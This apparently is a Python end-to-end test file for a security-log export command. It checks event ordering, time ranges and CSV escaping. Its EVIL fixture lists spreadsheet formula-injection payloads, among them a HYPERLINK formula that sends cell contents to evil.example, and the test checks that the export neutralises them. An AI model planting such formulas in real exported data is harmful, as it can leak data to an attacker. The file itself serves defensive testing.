"""The security log as operators take it out: whole, in order, page by page, and harmless to a spreadsheet."""

import contextlib
import csv
import io
import json
import sqlite3
from datetime import datetime, timedelta
from pathlib import Path
from uuid import UUID

import pytest

from asperguide.shared.pages import MAX_LIMIT
from tests.e2e.service import asperguide_here

NOON = datetime(2031, 5, 17, 12, microsecond=123456)
COUNT = 2 * MAX_LIMIT + 50
EVIL = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1",
)  # fmt: skip
PLAIN = ("", 'Mozilla/5.0 (X11; "quoted", comma)', "two\nlines", "Žofie")


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """A folder with a database of events, two each second from noon on."""
    assert asperguide_here("migrate", "up", folder=tmp_path).returncode == 0
    agents = [*EVIL, *PLAIN]
    rows = [
        (UUID(int=number + 1).bytes, agents[number % len(agents)], str(NOON + timedelta(seconds=number // 2)))
        for number in range(COUNT)
    ]
    with contextlib.closing(sqlite3.connect(tmp_path / "var" / "asperguide.sqlite3")) as database, database:
        database.executemany(
            "INSERT INTO security_events (id, kind, outcome, detail, address, user_agent, at)"
            " VALUES (?, 'signed-in', 'refused', '', '2001:db8::1', ?, ?)",
            rows,
        )
    return tmp_path


def export(log: Path, *arguments: str) -> str:
    told = asperguide_here("audit", "export", *arguments, folder=log)
    assert told.returncode == 0, told.stderr
    return told.stdout


def test_every_event_is_told_once_the_oldest_first(log: Path) -> None:
    told = [json.loads(line) for line in export(log, "--to", "2032-01-01").split("\n")[:-1]]
    assert [UUID(event["id"]).int for event in told] == list(range(1, COUNT + 1))
    assert told[0]["at"] == "2031-05-17T12:00:00.123456Z"
    assert told[0]["user_agent"] == EVIL[0]


def test_a_part_begins_with_its_first_moment_and_ends_before_its_last(log: Path) -> None:
    told = export(log, "--from", "2031-05-17T12:00:10", "--to", "2031-05-17T14:00:12+02:00").splitlines()
    assert [UUID(json.loads(line)["id"]).int for line in told] == [21, 22, 23, 24]
    assert export(log, "--to", "2031-05-17") == ""
    wrong = asperguide_here("audit", "export", "--from", "yesterday", folder=log)
    assert wrong.returncode == 2


def test_no_cell_is_a_formula_and_nothing_else_is_changed(log: Path) -> None:
    header, *rows = csv.reader(io.StringIO(export(log, "--to", "2032-01-01", "--format", "csv"), newline=""))
    assert header == ["id", "user", "by", "kind", "outcome", "detail", "address", "user_agent", "at"]
    assert len(rows) == COUNT
    agents = [row[header.index("user_agent")] for row in rows[: len(EVIL) + len(PLAIN)]]
    assert agents == [*(f"'{text}" for text in EVIL), *PLAIN]
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))] == []
